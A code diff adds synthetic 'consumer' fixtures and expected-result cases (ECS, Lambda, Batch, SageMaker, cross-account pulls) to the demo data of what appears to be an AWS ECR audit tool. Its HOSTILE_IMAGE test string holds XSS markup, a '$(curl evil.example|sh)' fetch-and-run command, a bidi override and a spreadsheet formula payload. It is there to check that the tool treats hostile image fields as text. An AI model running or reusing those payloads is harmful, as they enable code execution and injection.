@@ -48,6 +48,15 @@ by 999988887777), repo-admin and ECR's replication service-linked role; data has
 and an unattached AWS managed policy; every member has OrganizationAccountAccessRole (administrator)
 and every account the audit role. `ACCESS_CASES` names each case and the answer an auditor should
 get: the truth table of the effective-access analysis.
+
+Consumers (issue 14; `demo_consumers`): ECS in payments (a service pinning the digest of a tag that
+has moved since — payments/worker's untagged `worker:unreferenced`, which the `untagged` lifecycle
+rule expires —, running tasks, a rollback window, a Docker Hub sidecar), a Lambda function behind a
+weighted alias, Batch job definitions (one naming a deleted tag), a SageMaker endpoint and models,
+an EMR Serverless application, CodeBuild projects, an App Runner service, consumers in other
+accounts with and without a grant, an EKS workload known only through Inspector, a hostile image
+string, and CloudTrail pulls. CONSUMER_CASES names each case with what the analysis should
+conclude (docs/consumers.md#the-demo-cases).
 """
 
 from __future__ import annotations
@@ -61,14 +70,32 @@ from .world import (
     AWS_POLICY_ARN,
     DEFAULT_NOW,
     Account,
+    AppRunnerService,
+    BatchJobDefinition,
+    CodeBuildProject,
+    Consumers,
+    Container,
+    EcsCluster,
+    EcsDeployment,
+    EcsService,
+    EcsTask,
+    EmrApplication,
     IamGroup,
     IamRole,
     IamUser,
     Identities,
     Image,
+    InspectorCluster,
+    InspectorImage,
+    LambdaCode,
+    LambdaFunction,
     OrgPolicy,
+    Pull,
     Registry,
     Repository,
+    SageMakerEndpoint,
+    SageMakerModel,
+    TaskDefinition,
     World,
     organization_id_for,
 )
@@ -90,6 +117,10 @@ def _policy(*statements) -> str:
 
 PULL = ["ecr:BatchGetImage", "ecr:GetDownloadUrlForLayer", "ecr:BatchCheckLayerAvailability"]
 
+# Base layers: one Debian-ish base shared by payments/api, payments/worker and shared/base.
+BASE_LAYERS = [mf.blob("base:debian-12:rootfs", 29_150_000), mf.blob("base:debian-12:ca", 310_000)]
+PYTHON_LAYERS = BASE_LAYERS + [mf.blob("base:python-3.12", 48_700_000)]
+
 
 def demo_world(now: datetime = DEFAULT_NOW, name: str = "demo") -> World:
     """Build the demo world (deterministic for a given `now`)."""
@@ -99,9 +130,7 @@ def demo_world(now: datetime = DEFAULT_NOW, name: str = "demo") -> World:
 
     org_id = organization_id_for(name)  # policies name the organization
 
-    # Base layers: one Debian-ish base shared by payments/api, payments/worker and shared/base.
-    base = [mf.blob("base:debian-12:rootfs", 29_150_000), mf.blob("base:debian-12:ca", 310_000)]
-    python = base + [mf.blob("base:python-3.12", 48_700_000)]
+    base, python = BASE_LAYERS, PYTHON_LAYERS
 
     # ---- payments/api -----------------------------------------------------------------------
     api_images: list[Image] = []
@@ -216,6 +245,8 @@ def demo_world(now: datetime = DEFAULT_NOW, name: str = "demo") -> World:
         ((), 1.01, "E"),
     ):
         worker_images.append(Image(mf.single_image("worker:example:" + seed, base), tags, ago(days)))
+    # Untagged: it was `v1.3.0` until the tag moved to the manifest list (20 days ago); the worker
+    # service still runs it (CONSUMER_CASES), and the `untagged` rule below would expire it.
     worker_images.append(Image(mf.single_image("worker:unreferenced", base), (), ago(45)))
     three_rules = json.dumps(
         {
@@ -557,6 +588,7 @@ def demo_world(now: datetime = DEFAULT_NOW, name: str = "demo") -> World:
         }
     )
 
+    consumers = demo_consumers(now)
     accounts = [
         Account(
             MANAGEMENT,
@@ -619,6 +651,9 @@ def demo_world(now: datetime = DEFAULT_NOW, name: str = "demo") -> World:
             registries=[Registry("us-east-1", [old_app]), Registry("eu-west-1", [])],
         ),
     ]
+    for acct in accounts:
+        for reg in acct.registries:
+            reg.consumers = consumers.get((acct.account_id, reg.region), Consumers())
     return World(
         name=name,
         accounts=accounts,
@@ -1006,3 +1041,407 @@ ACCESS_CASES: dict[str, AccessCase] = {
         ),
     )
 }
+
+
+# -- consumers (issue 14) -------------------------------------------------------------------------
+# Who uses which image, in several accounts. Each case is named in CONSUMER_CASES with what the
+# analysis (ecr_audit.consumers) should conclude; docs/consumers.md#the-demo-cases lists them.
+
+
+def _uri(
+    account: str, region: str, repository: str, tag: str | None = None, digest: str | None = None
+) -> str:
+    return (
+        f"{account}.dkr.ecr.{region}.amazonaws.com/{repository}"
+        + (f":{tag}" if tag else "")
+        + (f"@{digest}" if digest else "")
+    )
+
+
+# The digests the cases are about (the same manifests demo_world builds).
+WORKER_UNREFERENCED = mf.single_image("worker:unreferenced", BASE_LAYERS).digest
+WORKER_LIST = {
+    t: mf.buildx_image("worker:" + t, BASE_LAYERS, docker=True)[0].digest
+    for t in ("v1.2.0", "v1.2.1", "v1.3.0")
+}
+API_INDEX = {
+    t: mf.buildx_image("api:" + t, PYTHON_LAYERS)[0].digest
+    for t in ("1.0.0", "1.1.0", "1.2.0", "1.2.1", "1.2.3")
+}
+API_123_AMD64 = mf.buildx_image("api:1.2.3", PYTHON_LAYERS)[1][0].digest
+ETL = {i: mf.single_image(f"etl:{i}", PYTHON_LAYERS, docker=False).digest for i in range(1, 11)}
+NOTEBOOKS_130 = mf.single_image("nb:v1.3.0", PYTHON_LAYERS).digest
+ARCHIVE_RESTORED = mf.single_image("archive:restored", PYTHON_LAYERS).digest
+LEGACY_UI = {v: mf.single_image(f"legacy-ui:{v}", BASE_LAYERS).digest for v in ("2.0.0", "2.1.0", "2.2.0")}
+DOCKER_HUB_NGINX = "docker.io/library/nginx:1.27"
+DOCKER_HUB_NGINX_DIGEST = mf.sha256("docker-hub:library/nginx:1.27")  # what Docker Hub served
+AWS_DLC_IMAGE = (
+    "763104351884.dkr.ecr.us-east-1.amazonaws.com/pytorch-inference:2.3.0-cpu-py311-ubuntu20.04-sagemaker"
+)
+# Untrusted text in an image field: markup, shell expansion, a right-to-left override, 10 kB.
+HOSTILE_IMAGE = (
+    "<script>alert('image')</script><img src=x onerror=alert(1)>$(curl evil.example|sh)${HOME}`id`"
+    "\u202eexe.txt\u202c|=cmd|'/c calc'!A1\t\"quoted\"\n" + "A" * 10_000
+)
+
+
+@dataclass(frozen=True)
+class ConsumerCase:
+    """A consumer of the demo world and what the analysis should conclude about it."""
+
+    consumer_account_id: str
+    consumer_region: str
+    consumer_kind: str  # the consumers frame's kind of the row(s) that show the case
+    consumer_name: str
+    image: str  # the reference as the consumer wrote it
+    digest: str | None  # the inventory image the case is about (None: no such image)
+    expected: str
+
+
+CONSUMER_CASES: dict[str, ConsumerCase] = {
+    "ecs_service_pins_moved_tag": ConsumerCase(
+        PAYMENTS,
+        "us-east-1",
+        "ecs_service_revision",
+        "prod/worker",
+        _uri(PAYMENTS, "us-east-1", "payments/worker", "v1.3.0"),
+        WORKER_UNREFERENCED,
+        "in use (deployed, running): the service deployed tag v1.3.0 when it named this image; the tag "
+        "has moved, ECS pinned the old digest (resolved_by_service). payments/worker's `untagged` "
+        "lifecycle rule expires it: ecr_lifecycle_expires_in_use_image (critical) naming prod/worker in "
+        "payments; never an orphan. The same service's ecs_service_deployment row names the tag "
+        "(tag_now: the v1.3.0 manifest list).",
+    ),
+    "ecs_running_task": ConsumerCase(
+        PAYMENTS,
+        "us-east-1",
+        "ecs_task",
+        "prod/service:worker",
+        _uri(PAYMENTS, "us-east-1", "payments/worker", "v1.3.0"),
+        WORKER_UNREFERENCED,
+        "two running tasks of the worker service; their runtime digest (containers[].imageDigest) is "
+        "the untagged image: running, resolved_by_service.",
+    ),
+    "ecs_rollback_window": ConsumerCase(
+        PAYMENTS,
+        "us-east-1",
+        "ecs_task_definition",
+        "api:2",
+        _uri(PAYMENTS, "us-east-1", "payments/api", "1.1.0"),
+        API_INDEX["1.1.0"],
+        "family api has 6 ACTIVE revisions; with --keep-task-definitions 5 revisions 2-5 (api 1.1.0, "
+        "1.2.0, 1.2.1, 1.2.3) are rollback references (tag_now) and revision 1 (api 1.0.0) is outside "
+        "the window: api 1.0.0 has no consumer (in_use no). worker:1 and worker:2 (v1.2.0, v1.2.1) are "
+        "rollback too; the worker service's previous deployment is an ecs_service_revision with role "
+        "rollback pinning the v1.2.1 list.",
+    ),
+    "lambda_weighted_alias": ConsumerCase(
+        DATA,
+        "us-east-1",
+        "lambda_version",
+        "etl-runner:1",
+        _uri(DATA, "us-east-1", "data/etl", "2026.08"),
+        ETL[8],
+        "alias live sends 10% to version 1 (deployed by tag 2026.08; ResolvedImageUri is that image's "
+        "digest) and 90% to version 2 (pinned by digest: data/etl 2026.09); $LATEST is data/etl:2026.10 "
+        "(defined, is_running unknown). All three images in use.",
+    ),
+    "batch_deleted_tag": ConsumerCase(
+        DATA,
+        "us-east-1",
+        "batch_job_definition",
+        "nightly-etl:1",
+        _uri(DATA, "us-east-1", "data/etl", "2025.12"),
+        None,
+        "the tag 2025.12 does not exist in data/etl: not_found, ecr_consumer_image_missing (high). The "
+        "account's other job definitions (ecsProperties, nodeProperties, eksProperties) name existing "
+        "data/etl tags.",
+    ),
+    "cross_account_with_grant": ConsumerCase(
+        DATA,
+        "us-east-1",
+        "ecs_task",
+        "analytics/family:analytics",
+        _uri(PAYMENTS, "us-east-1", "payments/worker", "v1.2.1"),
+        WORKER_LIST["v1.2.1"],
+        "a task in data runs payments/worker:v1.2.1 (a manifest list): cross-account, and the "
+        "repository policy's DataAccountPull lets data pull: no ecr_consumer_without_grant.",
+    ),
+    "cross_account_without_grant": ConsumerCase(
+        MANAGEMENT,
+        "us-east-1",
+        "ecs_service_deployment",
+        "tools/reports",
+        _uri(DATA, "us-east-1", "data/notebooks", "v1.3.0"),
+        NOTEBOOKS_130,
+        "the management account's reports service runs data/notebooks:v1.3.0; no policy lets "
+        "management pull it: ecr_consumer_without_grant (medium). The image is in use.",
+    ),
+    "eks_via_inspector": ConsumerCase(
+        PAYMENTS,
+        "us-east-1",
+        "inspector_eks",
+        "checkout/checkout-api",
+        _uri(PAYMENTS, "us-east-1", "payments/api", digest=API_123_AMD64),
+        API_123_AMD64,
+        "known only through Inspector (GetClustersForImage: EKS cluster platform): the amd64 child of "
+        "api 1.2.3 is in use (observed), which keeps its index in use.",
+    ),
+    "sagemaker_endpoint": ConsumerCase(
+        DATA,
+        "us-east-1",
+        "sagemaker_endpoint",
+        "churn/primary",
+        _uri(DATA, "us-east-1", "data/etl", "2026.07"),
+        ETL[7],
+        "the endpoint's variant deployed data/etl:2026.07 (ResolvedImage: its digest): in use, running. "
+        "The churn-model model is a defined reference to the same image; dlc-model names an AWS Deep "
+        "Learning Container (account 763104351884): outside_inventory.",
+    ),
+    "emr_serverless_application": ConsumerCase(
+        DATA,
+        "eu-west-1",
+        "emr_serverless_application",
+        "spark-archive",
+        _uri(DATA, "eu-west-1", "data/archive", "2024.restored"),
+        ARCHIVE_RESTORED,
+        "application and its Driver/Executor worker types run the restored archive image (resolved "
+        "digest): in use.",
+    ),
+    "codebuild_project": ConsumerCase(
+        PAYMENTS,
+        "us-east-1",
+        "codebuild_project",
+        "worker-ci",
+        _uri(PAYMENTS, "us-east-1", "payments/worker", "v1.2.0"),
+        WORKER_LIST["v1.2.0"],
+        "a defined consumer (tag_now: the v1.2.0 list). api-ci uses aws/codebuild/standard:7.0, a "
+        "CodeBuild-managed image: outside_inventory.",
+    ),
+    "apprunner_service": ConsumerCase(
+        PAYMENTS,
+        "eu-west-1",
+        "apprunner_service",
+        "legacy-ui",
+        _uri(PAYMENTS, "eu-west-1", "payments/legacy-ui", "2.2.0"),
+        LEGACY_UI["2.2.0"],
+        "running App Runner service: legacy-ui 2.2.0 is in use although its last pull is more than a "
+        "year old (stale by pull time, not unused).",
+    ),
+    "non_ecr_image": ConsumerCase(
+        PAYMENTS,
+        "us-east-1",
+        "ecs_task",
+        "prod/family:sidecar",
+        DOCKER_HUB_NGINX,
+        None,
+        "a Docker Hub image: is_ecr_private false, outside_inventory (the api:6 task definition's "
+        "public.ecr.aws sidecar too).",
+    ),
+    "hostile_image": ConsumerCase(
+        DATA,
+        "us-east-1",
+        "ecs_task_definition",
+        "hostile:1",
+        HOSTILE_IMAGE,
+        None,
+        "an image field of markup, shell expansion, a bidi override and 10 kB of text: unparseable, "
+        "kept verbatim, rendered as text.",
+    ),
+    "cloudtrail_pulls": ConsumerCase(
+        DATA,
+        "us-east-1",
+        "cloudtrail_pull",
+        "assumed-role/analytics-task-execution/1f2e3d",
+        _uri(PAYMENTS, "us-east-1", "payments/worker", "v1.2.1"),
+        WORKER_LIST["v1.2.1"],
+        "with --consumers ...,cloudtrail: data pulled payments/worker:v1.2.1 (the DataAccountPull grant "
+        "is used) and the external vendor pulled legacy-ui:2.1.0 in eu-west-1 (VendorPull is used); "
+        "data/notebooks' AllowPayments grant has no consumer and no pull: ecr_grant_unused (low). The "
+        "audit's own BatchGetImage calls are not consumers.",
+    ),
+}
+
+
+def demo_consumers(now: datetime) -> dict[tuple[str, str], Consumers]:
+    """The consumers of each account × region of the demo world."""
+
+    def ago(days: float) -> datetime:
+        return now - timedelta(days=days)
+
+    pay, pay_eu = _uri(PAYMENTS, "us-east-1", ""), _uri(PAYMENTS, "eu-west-1", "")
+    data, data_eu = _uri(DATA, "us-east-1", ""), _uri(DATA, "eu-west-1", "")
+    worker_td = f"arn:aws:ecs:us-east-1:{PAYMENTS}:task-definition/worker:3"
+    payments_us = Consumers(
+        task_definitions=[
+            TaskDefinition("worker", [Container("app", pay + "payments/worker:v1.2.0")]),
+            TaskDefinition("worker", [Container("app", pay + "payments/worker:v1.2.1")]),
+            TaskDefinition("worker", [Container("app", pay + "payments/worker:v1.3.0")]),
+            *[
+                TaskDefinition("api", [Container("web", pay + f"payments/api:{v}")])
+                for v in ("1.0.0", "1.1.0", "1.2.0", "1.2.1", "1.2.3")
+            ],
+            TaskDefinition(
+                "api",
+                [
+                    Container("web", pay + "payments/api:1.2.3"),
+                    Container("otel", "public.ecr.aws/aws-observability/aws-otel-collector:v0.40.0"),
+                ],
+            ),
+            TaskDefinition("sidecar", [Container("nginx", DOCKER_HUB_NGINX)]),
+            TaskDefinition(
+                "sidecar", [Container("nginx", "docker.io/library/nginx:1.25")], status="INACTIVE"
+            ),
+        ],
+        clusters=[
+            EcsCluster(
+                "prod",
+                services=[
+                    EcsService(
+                        "worker",
+                        "worker",
+                        [
+                            EcsDeployment(2, ago(90), digests={"app": WORKER_LIST["v1.2.1"]}),
+                            EcsDeployment(3, ago(40), digests={"app": WORKER_UNREFERENCED}),
+                        ],
+                        running=2,
+                    ),
+                    EcsService(
+                        "api", "api", [EcsDeployment(5, ago(12)), EcsDeployment(6, ago(10))], running=1
+                    ),
+                ],
+                tasks=[
+                    EcsTask("worker", 3, ago(40), "service:worker", {"app": WORKER_UNREFERENCED}),
+                    EcsTask("worker", 3, ago(8), "service:worker", {"app": WORKER_UNREFERENCED}),
+                    EcsTask("api", 6, ago(10), "service:api"),
+                    EcsTask("sidecar", 1, ago(3), None, {"nginx": DOCKER_HUB_NGINX_DIGEST}),
+                ],
+            )
+        ],
+        codebuild_projects=[
+            CodeBuildProject("worker-ci", pay + "payments/worker:v1.2.0"),
+            CodeBuildProject("api-ci", "aws/codebuild/standard:7.0", credentials="CODEBUILD"),
+        ],
+        inspector_ecr=True,
+        inspector_images=[
+            InspectorImage(
+                "payments/worker",
+                WORKER_UNREFERENCED,
+                2,
+                ago(0.1),
+                [
+                    InspectorCluster(
+                        f"arn:aws:ecs:us-east-1:{PAYMENTS}:cluster/prod",
+                        ago(0.1),
+                        running=2,
+                        ecs_group="service:worker",
+                        task_definition_arn=worker_td,
+                    )
+                ],
+            ),
+            InspectorImage(
+                "payments/api",
+                API_123_AMD64,
+                3,
+                ago(0.2),
+                [
+                    InspectorCluster(
+                        f"arn:aws:eks:us-east-1:{PAYMENTS}:cluster/platform",
+                        ago(0.2),
+                        running=3,
+                        stopped=1,
+                        eks_namespace="checkout",
+                        workloads=[("checkout-api", "DEPLOYMENT")],
+                    )
+                ],
+            ),
+        ],
+        pulls=[
+            Pull(
+                f"arn:aws:sts::{DATA}:assumed-role/analytics-task-execution/1f2e3d",
+                DATA,
+                "payments/worker",
+                ago(d),
+                tag="v1.2.1",
+            )
+            for d in (0.5, 2, 9)
+        ],
+    )
+    payments_eu = Consumers(
+        apprunner_services=[AppRunnerService("legacy-ui", pay_eu + "payments/legacy-ui:2.2.0")],
+        inspector_ecr=True,
+        pulls=[
+            Pull(
+                f"arn:aws:sts::{EXTERNAL}:assumed-role/vendor-deploy/release-7",
+                EXTERNAL,
+                "payments/legacy-ui",
+                ago(5),
+                tag="2.1.0",
+            )
+        ],
+    )
+    data_us = Consumers(
+        task_definitions=[
+            TaskDefinition("analytics", [Container("worker", pay + "payments/worker:v1.2.1")]),
+            TaskDefinition("hostile", [Container("x", HOSTILE_IMAGE)]),
+        ],
+        clusters=[EcsCluster("analytics", tasks=[EcsTask("analytics", 1, ago(2))])],
+        functions=[
+            LambdaFunction(
+                "etl-runner",
+                versions=[LambdaCode(data + "data/etl:2026.08"), LambdaCode(data + f"data/etl@{ETL[9]}")],
+                latest=LambdaCode(data + "data/etl:2026.10"),
+                aliases={"live": ("2", {"1": 0.1})},
+            )
+        ],
+        job_definitions=[
+            BatchJobDefinition("nightly-etl", image=data + "data/etl:2025.12"),
+            BatchJobDefinition(
+                "reindex",
+                ecs_containers=[
+                    Container("indexer", data + "data/etl:2026.09"),
+                    Container("sidecar", "public.ecr.aws/docker/library/busybox:1.36"),
+                ],
+            ),
+            BatchJobDefinition("shard-scan", node_images=[("0:", data + "data/etl:2026.10")]),
+            BatchJobDefinition("train-eks", eks_containers=[Container("trainer", data + "data/etl:2026.07")]),
+        ],
+        sagemaker_models=[
+            SageMakerModel("churn-model", [data + "data/etl:2026.07"]),
+            SageMakerModel("dlc-model", [AWS_DLC_IMAGE]),
+        ],
+        sagemaker_endpoints=[SageMakerEndpoint("churn", "churn-model")],
+        inspector_ecr=True,
+    )
+    data_eu = Consumers(
+        emr_applications=[
+            EmrApplication(
+                "spark-archive",
+                image=data_eu + "data/archive:2024.restored",
+                worker_images={
+                    "Driver": data_eu + "data/archive:2024.restored",
+                    "Executor": data_eu + "data/archive:2024.restored",
+                },
+            )
+        ],
+        inspector_ecr=False,  # Inspector's ECR scanning is off here: coverage `disabled`
+    )
+    management_us = Consumers(
+        task_definitions=[TaskDefinition("reports", [Container("report", data + "data/notebooks:v1.3.0")])],
+        clusters=[
+            EcsCluster(
+                "tools",
+                services=[EcsService("reports", "reports", [EcsDeployment(1, ago(20))])],
+                tasks=[EcsTask("reports", 1, ago(20), "service:reports")],
+            )
+        ],
+        inspector_ecr=True,
+    )
+    return {
+        (PAYMENTS, "us-east-1"): payments_us,
+        (PAYMENTS, "eu-west-1"): payments_eu,
+        (DATA, "us-east-1"): data_us,
+        (DATA, "eu-west-1"): data_eu,
+        (MANAGEMENT, "us-east-1"): management_us,
+        (MANAGEMENT, "eu-west-1"): Consumers(inspector_ecr=True),
+    }
